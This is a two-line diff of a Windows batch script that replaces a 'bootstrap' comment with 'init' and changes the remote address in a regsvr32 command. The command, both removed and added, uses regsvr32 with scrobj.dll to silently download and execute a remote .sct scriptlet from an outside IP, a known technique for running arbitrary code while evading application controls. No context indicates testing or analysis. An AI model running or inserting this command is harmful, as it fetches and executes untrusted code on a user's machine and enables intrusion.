@@ -1,2 +1,2 @@
-REM bootstrap 7214 v1
-regsvr32 /s /n /u /i:http://198.51.100.9/file.sct scrobj.dll
+REM init 5638 v1
+regsvr32 /s /n /u /i:http://192.0.2.150/file.sct scrobj.dll
